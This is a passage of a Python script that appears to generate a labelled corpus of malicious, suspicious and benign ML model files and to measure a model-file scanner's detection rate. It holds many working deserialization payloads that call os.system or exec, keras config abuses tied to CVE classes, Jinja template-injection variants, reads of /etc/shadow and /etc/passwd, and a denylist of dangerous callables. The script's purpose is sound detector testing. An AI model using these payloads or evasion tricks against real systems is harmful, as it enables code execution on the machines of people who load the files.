        'eNp1U0tv1DAQTvZRaMtLVCogoXJdLishcWglRGG74tGIIJUjqiwn611HTZzIceguogIO3baSbwz8Ln4CR45w4wZjJ1E3ICw5Y8fz+OabmQ/dzxsdxy69lFExojno5SFV9ImkCYNPcPcj',
        'HEFPd0gykaA3Sp1+mErWj4RiUtA47ydU0AmTaHtpEKfhwYvyjuZ6vbIgcRTk5yagr5JCZFF4EDMSGBujvCaKJJv1iXWPZyajEPQqGcs0CYrx2Lrsfek5zeVWslXJdiWrzBzQXesY5UjN',
        'MpOWbkWbcHZ6AnvQ89rafQC+7+/+xmU/nqMg8FyvOwft7oBCNX0xKKJYRQKxd/M4Co0bz0El13jxWubLV/mVf/GV6+t2Kb9V8nslf2wDv65b4wU8fP1/aPgtg4Vv4K3VDKzXGkxTKekM',
        'od4mJJtNz7n2h4/Ny4CGB2xkiLhcmdUGq6+UjMTEauH77p2lnx3fhnDqt2FN4lI2UzwV8PT9rzKXuSFqfbGKSYGcWd/YHESyMBW5kkWo0J5f0xcwdhXJc45hxw2g5ACzPba8vGzU6d1f',
        'ddpGZs72sUHdN1ipQ9xT3BjLfQsM3+YQIFktr71I1gkYi5vNXh6xKcv7Ac0Z6BUi2CF5bv4ZmI7u1mc7CyOcD+D3+P0Fcjb5VoMF/pA/MhnxQZ1PGy/PSqwU8QW4wxqj7ggzbn5hTV9j',
        'xJU9KiZsISwXPvadolIhU7qTqzQDr2sODA+utWSW/w7B+uAYG5hjO8Z6mSRMUYt7H9uXKoXDeoQFJOOYTuzxBo3j9DAnoyLD5qaKkZgGDCf1NC+C/h/EwIep',
    ],
    'structured.npy': [
        'eNqb7BfqGxDJyLCNoVo9JbU4uUjdSiFaQz0zRV1HQd0m00RdU0dBQ70gvxjMTzMBUhrGOppg0ZLEdJBoTbAZRFVmXl5qEVAEqL8AotwCIlEI5pUagTQbATXHasYCBdLyi0qKEvPi84tS',
        'UkHWuiXmFKcCxYszEgtSgXwNEx2g7loFfICLYZAAAO9ILP8=',
    ],
    'embeddings.npz': [
        'eNoL8GZm0WVgYOAAYkUG2zfLv/yHAnYGEYbU3CS9vIJKRgYBhhkMEOAFpWe/EX8lLXDyRMCxgLXzJkXNiVmSt3RB3uS0JesWL5g3LT4kaMoM8fnxUyZxCZV7n9H0Y+0ST1cRW8L0U+qY',
        'FZfaLCuurVwpzHps0m8EGAJQnFCwzswK2QmZKcUwJ2yAWh2C3wmZCwk5Ic0K7AARBj02jYSWSz4BsyS9NjtkhmnwAh3DyKTLjBoiIC+DvM/OgAANjCASGj7omkB+ADlyA4amZiAJ9VGA',
        'NysbSJAJCLOAtADYRACh127h',
    ],
    'evil_objarr.joblib': [
        'eNqFkT1Lw0AcxvuS2Fpfi6AFF8c6GFcHoUoHwUAEFycJl+TqRZPckbtQAwp1CLZwm/9+JD+FX8LRrV6SFqwOPsPxXPi//PLcSJt+VEo9Q1dqLsUDkDv31Al8x4iSkKU2892HAINsW/n1',
        'PI5RehMjxnAMb3D4AnljkyeOGyDOQepFF8hG5KG8VhVJnRPEMJj1THkae6pVVvvKeyJV30lz4VRtbXACk/ErXEPXrMvqKViWdTlTKg6zIsCRLRQEdGiHIWIwlvslZ7HNRoF/F4U4EraT',
        'CszB3E6c1dlClSV99ubmbGrNndRCLBAQrfwx0iAtsmbWMiAbZJNskbasXS3xPf3i6yk+sjchnXzxSJ++LwbvFpSG7dIYG2ESCL+MR67bMXZpxEWcuKJI62+CZiWDftWBcm21AKr/DO1/',
        'qMmteiedUe4/glzhKRc4zFs7giYuOTgWITsmOPBoIo7YMMIeZGrcRe+r5MdqhJEY33ck3TA=',
    ],
    'evil_lz4.joblib.lz4': [
        'eNoVjrFLw0AYxb+raQ1BwepScCm6VMF20w6CUTeDGbo4hktzmuglOXIXYgZBh2KF2/z6//hn+D+4tCA41stbvvc+3oOfdXDbc92vIQGYvFqLbyCwOnvBgSYV6r3HPORJOMzKVNSBSKZP',
        'nKHu+k28LApa3xVUCFbgJx69YbOyZRlOOZUSdfsUfvuoN7OINlXT0W0ZU8HQs2bG50VklppcGx+p2vxj24HVtum17sf4MX/HCQ68DU3O0ff9m7VRG1YdDxSG2qGc51WQplTgXO8X0A0y',
        '+LMDypOHLGWZCsJaMYneThlurQm0fsBqweHywoFd14Yr212MHVgegybPBkDkMjG3I2upWNqw9lReTuP+SKViFDMe5aU6EVXGIpwZrnIIRv++FHUm',
    ],
    'evil_lzma.joblib.lzma': [
        'eNoBDwHw/l0AAIAA//////////8AQAEOe3f5FZs6OvNKfLab+k6GTAp3vvoW6AWkXpk/u2RghvI1bes/XWxsIJ1msIxntFWGK/w5YGFPeI+v8KjLncF3Tyij1nDq3t+WUcuz4dy4A+n7',
        'Q6EFk2MI1+1XmwB6eNsbT4vFFxOiEHhFoFX5Anyikk2d2TQRi/2L+WwSlgpl3IhfmYIwXkzDXHI5lDgJxdNykUkD2Rn/ZeOoE370G/CWvBOtoeznPG/gXtxXWCHQruElCJOQ2TojsKnz',
        '2JjIuamXyT36Dbk3CZfAyjgiq17FvzGkz73+crkt5efZILm1d50XBiw090KE6QShpqD+04n6mGcnM9BlYvxe/9+zosA2qo6s',
    ],
    'evil_zlib.joblib.z': [
        'eNoBBQH6/nheNU89T8MwFGyghQgxgFiQWBjLQLt2QKKIjUgZWBgjOzYk4C/FtkIGJBgqivQ2Xv8bP4N/AM5Hb/Cdn+707r2PNz+jHm84hahGOHnWVJR0prw0TWbK/EVwhOO0/d5UFWke',
        'KmIMr/AbLz6wTcXW01wQaxEmXQphXzHSeoMJJrYghmMyXgWtKxaiEN0GzVwT5kW8VcG787jAr/Un3uM02YXoCtM0vfsL6J5k5JDCARFC15mUxOAazvqe3baMiPJJSa5cRhvHLSZHnh62',
        'yS2GWwf6vR7Esud4uVkME4heQ0OjbRl4zzbWcdkec+q0z4vzuZNmXnDBtHeXplac4SqU9rN/IUeC6SsWfNo=',
    ],
    'evil.pkl.zst': [
        'eNrT2Kr/V8FVk4mhgWWqFQME1E7pYayY0sNakF+cCaTZiiuLS1Jzp0ye0iNRkl+anKGgX5JboJ+RmpOSX1qiW1Cel5oypXVK0JRiPQDl6xvr',
    ],
}


# ---------------------------------------------------------------- the corpus
def blob(name):
    return zlib.decompress(base64.b64decode(''.join(REAL[name])))


def split_compress(data, opener):
    """Data cut in two halves, each compressed as its own stream/member and concatenated."""
    half = len(data) // 2
    return opener(data[:half]) + opener(data[half:])


def tar_gz(name, data):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w:gz') as tf:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mtime = 1719792000
        tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def parity():
    main_x = b'X\x05\x00\x00\x00posixX\x06\x00\x00\x00system\x93X\x02\x00\x00\x00id\x85R.'
    legacy = (b'\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.' + b'\x80\x02M\xe9\x03.'
              + b'\x80\x02}q\x00(X\x10\x00\x00\x00protocol_versionq\x01M\xe9\x03X\r\x00\x00\x00little_endianq\x02\x88u.' + main_x + b'\x80\x02]q\x00.')
    obj_pickle = b'\x80\x02cposix\nsystem\nq\x00X\x18\x00\x00\x00' + CMD.encode() + b'q\x01\x85q\x02Rq\x03.'
    floats_with_pickle_bytes = SYSTEM_P0 + b'.'
    floats_with_pickle_bytes += b'\x00' * (-len(floats_with_pickle_bytes) % 8)
    return [
        ('start_none_pop.pkl', b'N0' + SYSTEM_P0 + b'.', MAL, 'pickle.load accepts any first opcode: NONE, POP, then protocol 0 GLOBAL/REDUCE'),
        ('start_mark_inst.pkl', b'(V' + CMD.encode() + b'\nios\nsystem\n.', MAL, 'protocol 0 INST (MARK first): INST calls any callable, not only classes'),
        ('start_dict_obj.pkl', b'}Vk\n(cposix\nsystem\nV' + CMD.encode() + b'\nos.', MAL, 'EMPTY_DICT first, then OBJ calls posix.system inside a SETITEM'),
        ('start_int_proto_late.pkl', b'K\x070\x80\x04' + sglobal('posix', 'system') + ustr(CMD) + b'\x85R.', MAL, 'BININT1 POP, then PROTO 4 in mid-stream'),
        ('second_pickle_obj.pkl', pickle.dumps({'epoch': 3}, protocol=2) + b'(cposix\nsystem\nV' + CMD.encode() + b'\no.', MAL,
         'two pickles; the second starts with MARK and uses OBJ (a loop of pickle.load calls runs it)'),
        ('legacy_main_binunicode.pt', legacy, MAL,
         'torch legacy (non-zip) format: magic, protocol, sys_info pickles, then the main pickle starts with BINUNICODE'),
        ('polyglot_pickle_then_zip.pt', obj_pickle + torch_zip(STATE_DICT_PKL), MAL,
         'pickle at offset 0, clean torch zip appended: zipfile sees the zip, torch.load (not PK at 0) unpickles the front'),
        ('duplicate_member.pt', zip_bytes([('archive/data.pkl', SYSTEM_P2), ('archive/data.pkl', STATE_DICT_PKL), ('archive/version', b'3\n')]), MAL,
         'two central-directory entries named archive/data.pkl: malicious first, clean second (zipfile.read gets the second)'),
        ('renamed_deflated_stream.pt', torch_zip(SYSTEM_P2, prefix='ckpt v2', compression=zipfile.ZIP_DEFLATED, stream=True), MAL,
         'torch zip: archive dir "ckpt v2", members deflated, with data descriptors (sizes 0 in local headers)'),
        ('nested_subarray_object.npy', npy("[('a', '<f4'), ('b', [('c', '|O', (2,))])]", '(1,)', SYSTEM_P2), MAL,
         'numpy: object field two levels deep in a sub-array dtype; np.load(allow_pickle=True) unpickles the body'),
        ('v3_unicode_object.npy', npy("[('gewicht\u00fc', '|O')]", '(2,)', SYSTEM_P2, version=(3, 0)), MAL,
         'npy format 3.0 (utf-8 header, 4-byte length) with an object field'),
        ('member_without_suffix.npz', zip_bytes([('weights.npy', npy("'<f4'", '(2,)', b'\x00' * 8)),
                                                 ('data/arr_0.bin', npy("'|O'", '(1,)', SYSTEM_P2))], zipfile.ZIP_DEFLATED), MAL,
         'npz: NpzFile loads any member by its full name and sniffs the npy magic; this one is deflated and named .bin'),
        ('joblib_object_array.joblib', blob('evil_objarr.joblib'), MAL,
         'real joblib 1.6 dump: an object ndarray (pickled inline after NumpyArrayWrapper) holding a __reduce__ to os.system'),
        ('floats_look_like_pickle.npy', npy("'<f8'", '(%d,)' % (len(floats_with_pickle_bytes) // 8), floats_with_pickle_bytes), CLEAN,
         'float64 array whose raw bytes spell a protocol 0 os.system pickle: numpy never unpickles a non-object dtype'),
    ]


def denylist():
    posix_mod = call(sglobal('sys', 'modules.get'), 'posix')
    tar_obj = Raw(call(sglobal('tarfile', 'open'), '/tmp/heldout.tar'))
    path_obj = Raw(call(sglobal('pathlib', 'PosixPath'), '/tmp/heldout-pwned'))
    interp = Raw(call(sglobal('code', 'InteractiveInterpreter')))
    inner = SYSTEM_P2
    code = 'import os; os.system("id")'
    rows = [
        ('unpack_archive.pkl', 'shutil', 'unpack_archive', ('/tmp/heldout.tar', '/tmp/heldout-out'), MAL, 'shutil.unpack_archive writes files'),
        ('shelve_open.pkl', 'shelve', 'open', ('/tmp/heldout-pwned',), MAL, 'shelve.open creates a dbm file'),
        ('dbm_open.pkl', 'dbm', 'open', ('/tmp/heldout-pwned', 'c'), MAL, 'dbm.open(..., "c") creates a file'),
        ('logging_fileconfig.pkl', 'logging.config', 'fileConfig', ('/tmp/heldout.ini',), MAL, 'fileConfig reads a file and eval()s handler args'),
        ('pty_spawn.pkl', 'pty', 'spawn', ('id',), MAL, 'pty.spawn execs a program'),
        ('sqlite_connect.pkl', 'sqlite3', 'connect', ('/tmp/heldout-pwned.db',), MAL, 'sqlite3.connect creates a database file'),
        ('ensurepip.pkl', 'ensurepip', 'bootstrap', (), MAL, 'ensurepip.bootstrap runs pip and installs into site-packages'),
        ('lib2to3_write.pkl', 'lib2to3.main', 'main', ('lib2to3.fixes', ['-w', '/tmp/heldout.py']), MAL, 'lib2to3 main -w rewrites files'),
        ('timeit.pkl', 'timeit', 'timeit', (code, 'pass', Raw(sglobal('time', 'perf_counter')), 1), MAL, 'timeit.timeit compiles and runs a statement string'),
        ('cprofile_run.pkl', 'cProfile', 'run', (code,), MAL, 'cProfile.run exec()s a string'),
        ('uuid_command.pkl', 'uuid', '_get_command_stdout', ('id',), MAL, 'uuid._get_command_stdout runs a program (subprocess)'),
        ('osx_support.pkl', '_osx_support', '_read_output', (CMD,), MAL, '_osx_support._read_output runs a shell command via os.system'),
        ('pydoc_pipepager.pkl', 'pydoc', 'pipepager', ('x', CMD), MAL, 'pydoc.pipepager runs its cmd with shell=True'),
        ('site_addsitedir.pkl', 'site', 'addsitedir', ('/tmp/heldout-site',), MAL, 'site.addsitedir executes import lines of .pth files'),
        ('venv_create.pkl', 'venv', 'create', ('/tmp/heldout-venv',), MAL, 'venv.create writes a tree of files'),
        ('imp_load_source.pkl', 'imp', 'load_source', ('heldout', '/tmp/heldout.py'), MAL, 'imp.load_source runs a Python file'),
        ('distutils_spawn.pkl', 'distutils.spawn', 'spawn', (['id'],), MAL, 'distutils.spawn.spawn runs a program'),
        ('pip_main.pkl', 'pip._internal.cli.main', 'main', (['install', '--no-index', '/tmp/heldout-pkg'],), MAL, 'pip install runs setup code'),
        ('yaml_unsafe.pkl', 'yaml', 'unsafe_load', ('!!python/object/apply:os.system ["id"]',), MAL, 'nested loader: PyYAML unsafe_load'),
        ('c_pickle_loads.pkl', '_pickle', 'loads', (inner,), MAL, 'nested loader: _pickle.loads of an inner os.system pickle'),
        ('smtp_connect.pkl', 'smtplib', 'SMTP', ('127.0.0.1', 25), MAL, 'smtplib.SMTP(host) connects in the constructor'),
        ('mp_client.pkl', 'multiprocessing.connection', 'Client', (('127.0.0.1', 6000),), MAL, 'multiprocessing Client connects out'),
        ('etree_parse.pkl', 'xml.etree.ElementTree', 'parse', ('/etc/hostname',), MAL, 'ElementTree.parse reads a file'),
        ('ctypes_dlopen.pkl', '_ctypes', 'dlopen', ('/tmp/heldout.so', 2), MAL, '_ctypes.dlopen loads native code'),
        ('webbrowser.pkl', 'webbrowser', 'open', ('http://127.0.0.1:9/',), MAL, 'webbrowser.open starts a program'),
        ('zipfile_write.pkl', 'zipfile', 'ZipFile', ('/tmp/heldout-pwned.zip', 'w'), MAL, 'zipfile.ZipFile(path, "w") truncates/creates a file'),
        ('tar_extractall.pkl', 'tarfile', 'TarFile.extractall', (tar_obj, '/tmp/heldout-out'), MAL, 'unbound TarFile.extractall on tarfile.open(...)'),
        ('path_write_text.pkl', 'pathlib', 'Path.write_text', (path_obj, 'x'), MAL, 'unbound Path.write_text on a PosixPath built by REDUCE'),
        ('code_runsource.pkl', 'code', 'InteractiveInterpreter.runsource', (interp, code), MAL, 'unbound InteractiveInterpreter.runsource compiles and runs'),
        ('np_memmap.npy.pkl', 'numpy', 'memmap', ('/tmp/heldout-pwned', '<u1', 'w+', 0, (16,)), MAL, 'numpy.memmap mode w+ creates a file'),
        ('np_fromfile.pkl', 'numpy', 'fromfile', ('/etc/shadow',), MAL, 'numpy.fromfile reads a file'),
        ('np_runstring.pkl', 'numpy.testing._private.utils', 'runstring', (code, {}), MAL, 'numpy.testing runstring exec()s a string'),
        ('np_load_nested.pkl', 'numpy', 'load', ('/tmp/heldout.npy', None, True), MAL, 'nested loader: np.load(path, None, allow_pickle=True)'),
        ('pd_read_csv.pkl', 'pandas', 'read_csv', ('/etc/passwd',), MAL, 'pandas.read_csv reads a file'),
        ('pd_read_json_url.pkl', 'pandas.io.json', 'read_json', ('http://127.0.0.1:9/x.json',), MAL, 'pandas.read_json fetches a URL'),
        ('torch_load_library.pt.pkl', 'torch', 'ops.load_library', ('/tmp/heldout.so',), MAL, 'torch.ops.load_library dlopens a library'),
        ('torch_hub_url.pkl', 'torch.hub', 'load_state_dict_from_url', ('http://127.0.0.1:9/w.pt',), MAL, 'downloads and torch.loads a URL'),
        ('cpp_extension.pkl', 'torch.utils.cpp_extension', 'load_inline', ('heldout', 'int x = 1;'), MAL, 'compiles and loads C++'),
        ('unknown_class.pkl', 'mylab.nets', 'TinyNet', (), SUS, 'an unknown class: its code is not in the file, suspicious'),
    ]
    out = [(name, p4call(mod, attr, *args), expect, 'denylist: %s.%s: %s' % (mod, attr, why)) for name, mod, attr, args, expect, why in rows]
    out += [
        ('resolve_name_chain.pkl', p4(call(call(sglobal('pkgutil', 'resolve_name'), 'posix:system'), CMD)), MAL,
         'pkgutil.resolve_name("posix:system") returns the function; a second REDUCE calls it'),
        ('pydoc_locate_operator_call.pkl', p4(call(sglobal('operator', 'call'), Raw(call(sglobal('pydoc', 'locate'), 'posix.system')), CMD)), MAL,
         'operator.call (3.11) on pydoc.locate("posix.system")'),
        ('methodcaller_modules.pkl', p4(call(call(sglobal('operator', 'methodcaller'), 'system', CMD), Raw(posix_mod))), MAL,
         'operator.methodcaller("system", cmd) applied to sys.modules.get("posix")'),
        ('copyreg_builtins_dict.pkl', p4(call(call(sglobal('copyreg', '__builtins__.get'), 'exec'), code)), MAL,
         'copyreg.__builtins__ is the builtins dict; .get("exec") then REDUCE'),
        ('main_class_build.pkl', b'\x80\x04' + sglobal('__main__', 'Model') + b')\x81}(\x8c\x01w\x8c\x01xub.', SUS,
         'NEWOBJ of __main__.Model with a state dict: unknown code'),
    ]
    return out


def text():
    lam = '{"module": "keras.layers", "class_name": "Lambda", "config": %s, "registered_name": null}' % LAMBDA_CFG
    dup = '{"module": "keras.layers", "class_name": "Dense", "config": %s, "registered_name": null, "class_name": "Lambda"}' % LAMBDA_CFG
    esc_module = ('{"\\u006dodule": "bu\\u0069ltins", "class_name": "exec", "config": "import os; os.system(\'id\')", "registered_name": null}')
    vocab = ('{"module": "keras.layers", "class_name": "TextVectorization", "config": {"name": "tv", "max_tokens": 100, '
             '"vocabulary": "/etc/passwd", "output_mode": "int"}, "registered_name": null}')
    getfile = ('{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d0", "units": 4, "kernel_initializer": '
               '{"\\u006dodule": "keras.utils", "class_name": "get_\\u0066ile", "config": {"origin": "http://127.0.0.1:9/x", '
               '"fname": "/tmp/heldout-pwned"}, "registered_name": null}}, "registered_name": null}')
    return [
        ('dup_key_lambda.keras', keras_zip(keras_config(dup).encode()), MAL, 'config.json with class_name twice: json.loads keeps the last, Lambda'),
        ('utf16_config.keras', keras_zip(keras_config(lam).encode('utf-16')), MAL,
         'config.json in UTF-16 with BOM: json.loads(bytes) decodes it; a byte search sees no "Lambda"'),
        ('escaped_module_exec.keras', keras_zip(keras_config(esc_module).encode()), MAL,
         'CVE-2025-1550 class: "module"/"class_name" name any callable; keys and values \\u-escaped'),
        ('textvec_vocab_file.keras', keras_zip(keras_config(vocab).encode()), MAL,
         'TextVectorization vocabulary path: reads a file at load (CVE-2025-12058 class)'),
        ('initializer_get_file.keras', keras_zip(keras_config(getfile).encode()), MAL,
         'keras.utils.get_file as a kernel_initializer, escaped: downloads and writes (CVE-2025-8747 class)'),
        ('tmpl_format.gguf', gguf('llama', T_FORMAT), MAL, 'SSTI: dunder names built with |format(95, 95, ...)'),
        ('tmpl_reverse.gguf', gguf('llama', T_REVERSE), MAL, 'SSTI: "_"~"_"~"slabolg"~... |reverse'),
        ('tmpl_macro.gguf', gguf('qwen2', T_MACRO), MAL, 'SSTI: a macro returns the dunder name'),
        ('tmpl_octal.gguf', gguf('llama', T_OCTAL), MAL, 'SSTI: octal escapes \\137 in Jinja string literals'),
        ('tmpl_unicode.gguf', gguf('gemma2', T_UNICODE), MAL, 'SSTI: \\u005f escapes in Jinja string literals'),
        ('tmpl_self_namespace.gguf', gguf('llama', T_SELF), MAL, 'SSTI: self._TemplateReference__context via namespace attribute set'),
        ('tmpl_join.gguf', gguf('phi3', T_JOIN), MAL, 'SSTI: list |join builds __class__/__mro__/__subclasses__'),
        ('tmpl_named_tool_use.gguf', gguf('llama', LLAMA31_TOOLS, extra=[('tokenizer.chat_template.tool_use', 8, gstr(T_FORMAT))]), MAL,
         'llama-cpp-python also loads tokenizer.chat_template.<name>: a clean default, the payload in tool_use'),
        ('tmpl_comment_only.gguf', gguf('phi3', T_COMMENT), CLEAN, 'the dunder chain is inside a {# comment #}: inert (debatable)'),
    ]


def crash():
    deep_meta = b'{"__metadata__": {"k": ' + b'[' * 60000 + b']' * 60000 + b'}}'
    nested = struct.pack('<IQ', 9, 1) * 50000 + struct.pack('<IQ', 4, 0)
    gz_full = gzip.compress(SYSTEM_P2, mtime=0)
    corrupt = zip_bytes([('archive/data.pkl', SYSTEM_P2), ('archive/data/1', b'\x00' * 4096), ('archive/version', b'3\n')], zipfile.ZIP_DEFLATED)
    # break the deflate stream of archive/data/1: the first bytes of its compressed data become an invalid block type
    pos = corrupt.index(b'archive/data/1') + len('archive/data/1')
    corrupt = corrupt[:pos] + b'\xff\xff\xff\xff' + corrupt[pos + 4:]
    return [
        ('st_dtype_object.safetensors', safetensors({'w': {'dtype': {'F32': 1}, 'shape': [2], 'data_offsets': [0, 8]}}, b'\x00' * 8), SUS,
         'safetensors: dtype is an object, not a string'),
        ('st_offsets_inf.safetensors', safetensors(None, b'\x00' * 8, raw_header=b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,1e999]}}'), SUS,
         'safetensors: data_offsets end is 1e999 (json.loads gives inf)'),
        ('st_header_bad_utf8.safetensors', safetensors(None, b'\x00' * 8, raw_header=b'{"w\xff\xfe":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'), SUS,
         'safetensors: invalid UTF-8 in a tensor name'),
        ('st_len_max.safetensors', struct.pack('<Q', 2 ** 64 - 1) + b'{}      ', SUS, 'safetensors: header length 2**64-1'),
        ('st_deep_metadata.safetensors', safetensors(None, b'', raw_header=deep_meta), SUS, 'safetensors: 60000-deep list in __metadata__'),
        ('gguf_key_len_huge.gguf', b'GGUF' + struct.pack('<IQQ', 3, 0, 1) + struct.pack('<Q', 2 ** 62) + b'general.architecture', SUS,
         'GGUF: key length 2**62'),
        ('gguf_nested_arrays.gguf', b'GGUF' + struct.pack('<IQQ', 3, 0, 1) + gstr('x.y') + struct.pack('<I', 9) + nested, SUS,
         'GGUF: arrays of arrays 50000 deep'),
        ('gguf_unknown_type.gguf', b'GGUF' + struct.pack('<IQQ', 3, 0, 1) + gstr('general.architecture') + struct.pack('<I', 0x7777) + b'\x00' * 16, SUS,
         'GGUF: value type 0x7777'),
        ('gguf_template_bad_utf8.gguf', gguf('llama', '{{ bos_token }}'.encode() + b'\xc3\x28\xa0\xa1'), SUS, 'GGUF: chat template that is not UTF-8'),
        ('gguf_counts_max.gguf', b'GGUF' + struct.pack('<IQQ', 3, 2 ** 64 - 1, 2 ** 64 - 1), SUS, 'GGUF: tensor and kv counts 2**64-1, no body'),
        ('npy_header_len_huge.npy', b'\x93NUMPY\x02\x00' + struct.pack('<I', 0xFFFFFFF0) + b"{'descr': '|O'", SUS, 'npy 2.0: header length 4 GiB'),
        ('truncated_after_reduce.pkl', SYSTEM_P0, MAL, 'no STOP: pickle.load raises at EOF, after REDUCE already ran'),
        ('bad_utf8_after_reduce.pkl', b'\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R0\x8c\x02\xff\xfe.', MAL,
         'invalid UTF-8 in a string after REDUCE ran: pickle.load raises late'),
        ('deep_marks.pkl', b'(' * 200000 + SYSTEM_P0 + b'0' + b'1' * 200000 + b'N.', MAL, '200000 MARKs around the payload (valid pickle)'),
        ('gzip_no_trailer.pkl.gz', gz_full[:-8], MAL, 'gzip without its CRC/size trailer: the pickle decompresses whole before the EOFError'),
        ('zip_corrupt_sibling.pt', corrupt, MAL, 'torch zip: malicious data.pkl next to a member whose deflate stream is broken'),
        ('zip_eocd_lies.pt', zip_bytes([('archive/data.pkl', STATE_DICT_PKL)])[:-22]
         + struct.pack('<4s4H2LH', b'PK\x05\x06', 0, 0, 65535, 65535, 2 ** 32 - 1, 2 ** 32 - 2, 0), SUS,
         'zip end record: 65535 entries, central directory offset past EOF'),
    ]


def compression():
    payload = p4(call(sglobal('posix', 'system'), CMD))
    return [
        ('lz4.joblib', blob('evil_lz4.joblib.lz4'), MAL, 'real joblib.dump(compress="lz4"): LZ4 frame (no stdlib decoder; suspicious acceptable)'),
        ('lzma_alone.joblib', blob('evil_lzma.joblib.lzma'), MAL, 'real joblib.dump(compress="lzma"): .lzma FORMAT_ALONE, not xz'),
        ('zlib.joblib', blob('evil_zlib.joblib.z'), MAL, 'real joblib.dump(compress="zlib"): a bare zlib stream'),
        ('model.pkl.zst', blob('evil.pkl.zst'), MAL, 'zstandard frame: pandas.read_pickle infers zstd from .zst (no stdlib decoder; suspicious acceptable)'),
        ('model.pkl.tar.gz', tar_gz('model.pkl', payload), MAL, 'pandas.read_pickle infers tar from .tar.gz: gzip then tar then pickle'),
        ('multistream.pkl.bz2', split_compress(payload, bz2.compress), MAL, 'two bz2 streams, the pickle cut between them; bz2.open reads both'),
        ('multimember.pkl.gz', split_compress(payload, lambda part: gzip.compress(part, mtime=0)), MAL, 'two gzip members, the pickle cut between them'),
        ('model.pkl.zip', zip_bytes([('x', payload)], zipfile.ZIP_DEFLATED), MAL, 'pandas zip compression: the single member is read whatever its name'),
        ('xz_in_gzip.pkl.gz', gzip.compress(lzma.compress(payload), mtime=0), SUS,
         'gzip of xz of a pickle: pandas decompresses once and fails on xz bytes; a scanner that peels both layers may call it malicious'),
        ('torch_zip_lzma_member.pt', zip_bytes([('archive/data.pkl', SYSTEM_P2), ('archive/version', b'3\n')], zipfile.ZIP_LZMA), SUS,
         'zip method 14 (LZMA) members: zipfile reads them, torch\'s miniz reader cannot; the pickle inside calls os.system'),
    ]


def benign():
    proto2 = pickle.dumps({'w': b'\x00\x01\x02', 'order': collections.OrderedDict(a=1), 'ids': {1, 2}, 'cfg': frozenset(['x'])}, protocol=2)
    st_header = {'__metadata__': {'format': 'pt'}, 'lm_head.weight': {'dtype': 'BF16', 'shape': [2, 2], 'data_offsets': [0, 8]},
                 'model.norm.weight': {'dtype': 'F32', 'shape': [2], 'data_offsets': [8, 16]}}
    return [
        ('gboost.joblib', blob('gboost.joblib'), CLEAN, 'real: GradientBoostingClassifier(n_estimators=3), joblib.dump'),
        ('svc_rbf.pkl', blob('svc_rbf.pkl'), CLEAN, 'real: SVC (rbf), pickle protocol 4'),
        ('tfidf_logreg.joblib', blob('tfidf_logreg.joblib'), CLEAN, 'real: TfidfVectorizer+LogisticRegression pipeline, joblib compress=3 (zlib)'),
        ('onehot.joblib', blob('onehot.joblib'), CLEAN, 'real: OneHotEncoder, object-dtype categories_'),
        ('isoforest.joblib', blob('isoforest.joblib'), CLEAN, 'real: IsolationForest fitted with a RandomState object'),
        ('frame.pkl', blob('frame.pkl'), CLEAN, 'real: pandas 3.1 DataFrame, pickle protocol 5'),
        ('structured.npy', blob('structured.npy'), CLEAN, 'real: np.save of a structured dtype with sub-arrays and a nested struct, no objects'),
        ('embeddings.npz', blob('embeddings.npz'), CLEAN, 'real: np.savez_compressed, float16 and int64'),
        ('proto2_bytes.pkl', proto2, CLEAN, 'stdlib pickle protocol 2: bytes via _codecs.encode, OrderedDict, set, frozenset'),
        ('state_dict.pt', torch_zip(STATE_DICT_PKL), CLEAN, 'torch-shaped zip state dict: OrderedDict, _rebuild_tensor_v2, FloatStorage'),
        ('model.safetensors', safetensors(st_header, b'\x00' * 16), CLEAN, 'safetensors with metadata and two tensors'),
        ('phi3-mini.gguf', gguf('phi3', PHI3), CLEAN, 'GGUF with the Phi-3 chat template'),
        ('deepseek-r1.gguf', gguf('deepseek2', DEEPSEEK_R1), CLEAN, 'GGUF with a DeepSeek-R1 chat template (namespace, tool calls, split)'),
        ('command-r-tools.gguf', gguf('command-r', COMMAND_R_TOOLS), CLEAN, 'GGUF with a Command-R tool-use template (recursive macro)'),
        ('llama31-tools.gguf', gguf('llama', LLAMA31_TOOLS), CLEAN, 'GGUF with the Llama 3.1 tool-use template (ipython, .call(, strftime_now)'),
    ]


def corpus():
    out = []
    for cls, maker in (('parity', parity), ('denylist', denylist), ('text', text), ('crash', crash), ('compression', compression), ('benign', benign)):
        for name, data, expect, source in maker():
            out.append({'name': name, 'bytes': data, 'expected': expect, 'class': cls, 'source': source})
    return out


# ---------------------------------------------------------------- measurement
class Timeout(Exception):
    pass


def on_alarm(signum, frame):
    raise Timeout('no verdict within 60 s')


def scan_all(samples, workdir):
    sys.path.insert(0, os.path.join(REPO, 'plugins', 'module_utils'))
    import model_formats
    signal.signal(signal.SIGALRM, on_alarm)
    results = []
    for sample in samples:
        path = os.path.join(workdir, sample['class'], sample['name'])
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'wb') as out:
            out.write(sample['bytes'])
        got, detail, error = None, '', None
        started = time.monotonic()
        signal.alarm(60)
        try:
            with open(path, 'rb') as f:
                report = model_formats.inspect_stream(f, os.path.getsize(path))
            got = report.get('verdict')
            findings = report.get('findings') or []
            detail = str(findings[0].get('detail', findings[0])) if findings else ''
        except Exception as exc:  # a measurement: every exception is counted, none stops the run
            error = '%s: %s' % (type(exc).__name__, str(exc)[:200])
        finally:
            signal.alarm(0)
        results.append(dict(sample, got=got, detail=detail, error=error, seconds=time.monotonic() - started))
    return results


def right(expected, got):
    if expected == MAL:
        return got == MAL
    if expected == SUS:
        return got in (SUS, MAL)
    return got == CLEAN


def tally(rows):
    should = [r for r in rows if r['expected'] in (MAL, SUS)]
    mal = [r for r in rows if r['expected'] == MAL]
    ben = [r for r in rows if r['expected'] == CLEAN]
    return {
        'files': len(rows),
        'flagged': '%d/%d' % (sum(r['got'] in (MAL, SUS) for r in should), len(should)),
        'malicious called malicious': '%d/%d' % (sum(r['got'] == MAL for r in mal), len(mal)),
        'benign flagged': '%d/%d' % (sum(r['got'] in (MAL, SUS) for r in ben), len(ben)),
        'errors': sum(r['error'] is not None for r in rows),
    }


def main():
    samples = corpus()
